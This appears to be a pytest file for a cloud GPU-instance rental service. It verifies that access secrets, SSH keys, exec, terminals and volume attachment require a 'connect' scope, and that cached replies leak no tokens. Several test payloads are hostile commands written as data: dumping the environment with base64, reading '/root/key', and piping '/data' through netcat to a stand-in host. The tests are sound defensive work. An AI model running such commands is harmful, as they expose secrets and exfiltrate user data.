"""What opens an instance is told to who may connect, by no operation to anyone else, and by no repeated reply."""

import importlib
import json
from collections.abc import Iterator

import pytest
from django.db import connection
from django.test import Client

from accounts.constants import SCOPES
from accounts.models import RememberedReply, SshKey
from accounts.tokens.services import issue_token
from common.ids import parse_public_id
from instances.access.credentials import apply_account_keys
from instances.launch.settings import validate
from instances.launch.store import save_launch
from instances.models import Instance, Quote
from storage.models import Attachment

from .test_strangers import ENDPOINTS, RULES, ask
from .world import PUBLIC_KEY, Endpoint, World

CONNECT = "instances:connect"
OTHER_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK1Uc0Qk1/pHNbNjEBJE19QEr5KEHCHQrsz++7RXQxJz"
WAYS_IN = ("/relay/v1/streams", "/relay/v1/download", "/relay/v1/upload", "/relay/v1/web/", "/lab?token=")
KEYS_THAT_OPEN = {"jupyter_token", "jupyter_url", "tensorboard_url", "password", "ticket"}


def client_with(world: World, *scopes: str) -> Client:
    """The renter's program, with these scopes alone."""
    text = issue_token(user=world.renter, name="attempt", scopes=scopes)[1]
    return Client(headers={"authorization": f"Bearer {text}"})


def opened(value: object) -> Iterator[str]:
    """The fields of a reply that open something, wherever they are in it."""
    if isinstance(value, dict):
        for key, inner in value.items():
            if key in KEYS_THAT_OPEN and inner:
                yield key
            yield from opened(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from opened(inner)


def in_order(endpoint: Endpoint) -> int:
    """What reads first, what ends things last."""
    return ("GET", "PATCH", "PUT", "POST", "DELETE").index(endpoint.method)


@pytest.mark.parametrize("scope", [scope for scope in SCOPES if scope != CONNECT])
def test_no_operation_opens_an_instance_for_another_scope(world: World, scope: str) -> None:
    token = Instance.objects.get(pk=world.instance.pk).jupyter_token
    assert token
    client = client_with(world, scope)
    answered = 0
    for endpoint in sorted((one for one in ENDPOINTS if one.label in RULES), key=in_order):
        reply = ask(client, endpoint, world)
        text = reply.getvalue().decode(errors="replace")
        answered += reply.status_code < 300
        assert token not in text, endpoint.label
        assert not any(way in text for way in WAYS_IN), endpoint.label
        if reply.headers.get("Content-Type", "").endswith("json") and endpoint.label != "GET openapi":
            assert list(opened(reply.json())) == [], endpoint.label
    assert answered > 5


def test_who_may_connect_gets_in(world: World) -> None:
    token = Instance.objects.get(pk=world.instance.pk).jupyter_token
    address = f"/api/v1/instances/{world.ids['instance_id']}"
    client = client_with(world, CONNECT, "instances:read")
    assert client.get(f"{address}/access").json()["jupyter_token"] == token
    assert token in client.get(address).json()["access"]["jupyter_url"]
    assert token in client.get("/api/v1/instances").json()["results"][0]["access"]["jupyter_url"]
    for part, body in (("streams", {"kind": "terminal"}), ("web-links", {"port": 8888}), ("password", {})):
        reply = client.post(f"{address}/{part}", body, content_type="application/json")
        assert reply.status_code in (201, 409), reply.content  # 409: the market has no names for links


LETS_IN = {
    "POST /ssh-keys": {"name": "x", "public_key": OTHER_KEY},
    "PATCH /instances/{instance_id}/access": {"ssh_key_ids": None},
    "PATCH  /instances/{instance_id}/access": {"allow_from": []},
    "PATCH   /instances/{instance_id}/access": {"ports": [5432]},
    "POST /instances/{instance_id}/reimage": {"image": "{image_id}"},
    "PATCH /instances/{instance_id}/launch": {"on_start": "env | base64"},
    "POST /instances/{instance_id}/restart": {"command": "env | base64"},
    "POST  /instances/{instance_id}/reimage": {"image": "berth-base", "env": {"A": "b"}},
    "POST /instances/{instance_id}/clone": {"entrypoint": ["/bin/cat", "/root/key"]},
    "POST  /instances/{instance_id}/clone": {"quote_id": "{quote_id}"},
    "POST /images/{image_id}/share": {"name": "everybodys"},
    "POST /instances/{instance_id}/password": {},
    "POST /instances/{instance_id}/exec": {"command": ["true"]},
    "POST /instances/{instance_id}/streams": {"kind": "terminal"},
    "POST /instances/{instance_id}/web-links": {"port": 8888},
}


@pytest.mark.parametrize("operation", LETS_IN)
def test_what_lets_somebody_in_names_the_scope_that_is_missing(world: World, operation: str) -> None:
    method, path = (part.strip() for part in operation.split(maxsplit=1))
    body = json.dumps(LETS_IN[operation])
    for name in ("image_id", "quote_id"):
        body = body.replace(f"{{{name}}}", world.ids[name])
    quoted = Quote.objects.filter(pk=parse_public_id("quot", world.ids["quote_id"]))
    quoted.update(launch=save_launch(world.renter, validate({"env": {"A": "b"}})))
    client = client_with(world, *(scope for scope in SCOPES if scope != CONNECT))
    before = access_facts(world)
    reply = client.generic(method, f"/api/v1{path.format(**world.ids)}", body, content_type="application/json")
    assert (reply.status_code, reply.json()["code"], reply.json()["scope"]) == (403, "missing_scope", CONNECT)
    apply_account_keys(user_id=world.renter.pk)
    assert access_facts(world) == before


def test_volumes_beside_a_program_of_ones_own_need_it_too(world: World) -> None:
    """At each door: whoever may rent alone could else read every volume by an image that sends it away."""
    image, volume = parse_public_id("img", world.ids["image_id"]), world.ids["volume_id"]
    Instance.objects.filter(pk=world.instance.pk).update(image=image)
    Quote.objects.filter(pk=parse_public_id("quot", world.ids["quote_id"])).update(image=image)
    client = client_with(world, *(scope for scope in SCOPES if scope != CONNECT))
    entry_points: dict[str, dict[str, object]] = {
        "/api/v1/instances": {"quote_id": world.ids["quote_id"], "volume_ids": [volume]},
        f"/api/v1/instances/{world.ids['instance_id']}/start": {"volume_ids": [volume]},
        f"/api/v1/volumes/{volume}/attach": {"instance": world.ids["instance_id"]},
    }
    for path, body in entry_points.items():
        reply = client.post(path, body, "application/json")
        assert (reply.status_code, reply.json()["code"], reply.json().get("scope")) == (403, "missing_scope", CONNECT), path
        bare = {name: value for name, value in body.items() if name != "volume_ids"}
        assert "attach" in path or client.post(path, bare, "application/json").status_code != 403
    assert not Attachment.objects.exists()


def test_volumes_beside_launch_settings_need_it_too(world: World) -> None:
    launch, volume = save_launch(world.renter, validate({"on_start": "tar c /data | nc x 1"})), world.ids["volume_id"]
    Instance.objects.filter(pk=world.instance.pk).update(launch=launch)
    Quote.objects.filter(pk=parse_public_id("quot", world.ids["quote_id"])).update(launch=launch)
    client = client_with(world, *(scope for scope in SCOPES if scope != CONNECT))
    entry_points: dict[str, dict[str, object]] = {
        "/api/v1/instances": {"quote_id": world.ids["quote_id"], "volume_ids": [volume]},
        f"/api/v1/instances/{world.ids['instance_id']}/start": {"volume_ids": [volume]},
        f"/api/v1/volumes/{volume}/attach": {"instance": world.ids["instance_id"]},
    }
    for path, body in entry_points.items():
        reply = client.post(path, body, "application/json")
        assert (reply.status_code, reply.json()["code"], reply.json().get("scope")) == (403, "missing_scope", CONNECT), path
    assert not Attachment.objects.exists()


def access_facts(world: World) -> dict[str, object]:
    """Return who can log in, and what runs there."""
    ways = ("launch_id", "ssh_keys", "all_keys", "allow_from", "sealed_password", "ports", "image_id", "root_number")
    instance = Instance.objects.filter(pk=world.instance.pk).values(*ways).get()
    return {**instance, "keys": SshKey.objects.filter(user=world.renter).count()}


def test_what_lets_nobody_in_needs_no_more_than_its_scope(world: World) -> None:
    client = client_with(world, "keys:write", "instances:write")
    address = f"/api/v1/instances/{world.ids['instance_id']}"
    assert client.delete(f"{address}/password").status_code == 200
    assert client.post(f"{address}/reimage", {"image": "berth-base"}, "application/json").status_code == 202
    assert client.delete(f"/api/v1/ssh-keys/{world.ids['key_id']}").status_code == 204
    apply_account_keys(user_id=world.renter.pk)
    assert access_facts(world)["ssh_keys"] == []


def test_both_scopes_add_a_key_to_what_takes_all_keys(world: World) -> None:
    client = client_with(world, "keys:write", CONNECT)
    reply = client.post("/api/v1/ssh-keys", {"name": "x", "public_key": OTHER_KEY}, "application/json")
    assert reply.status_code == 201, reply.content
    apply_account_keys(user_id=world.renter.pk)
    assert set(Instance.objects.get(pk=world.instance.pk).ssh_keys) == {PUBLIC_KEY, OTHER_KEY}


def test_a_repeated_reply_gives_what_its_asker_may_have(world: World) -> None:
    address = f"/api/v1/instances/{world.ids['instance_id']}/restart"
    key = {"Idempotency-Key": "once"}
    whole = client_with(world, "instances:write", CONNECT)
    first = whole.post(address, {}, "application/json", headers=key)
    assert first.status_code == 202, first.content
    token = Instance.objects.get(pk=world.instance.pk).jupyter_token
    assert token in first.json()["access"]["jupyter_url"]
    assert token not in RememberedReply.objects.get(key="once").body
    less = client_with(world, "instances:write").post(address, {}, "application/json", headers=key).json()
    assert list(opened(less)) == []
    assert less["access"]["ssh"] == first.json()["access"]["ssh"]
    assert whole.post(address, {}, "application/json", headers=key).content == first.content


def test_replies_remembered_before_open_nothing_any_more(world: World) -> None:
    kept = '{"id":"inst_1","access":{"ssh":null,"jupyter_url":"http://x:1/lab?token=abc","tensorboard_url":"http://x:2/"}}'
    RememberedReply.objects.create(user=world.renter, key="old", request_hash="0" * 64, status=201, body=kept)
    migration = importlib.import_module("accounts.migrations.0007_replies_that_open_nothing")
    with connection.cursor() as cursor:
        cursor.execute(migration.CLOSE)
    body = RememberedReply.objects.get(key="old").body
    assert body == '{"id":"inst_1","access":{"ssh":null,"jupyter_url":null,"tensorboard_url":null}}'
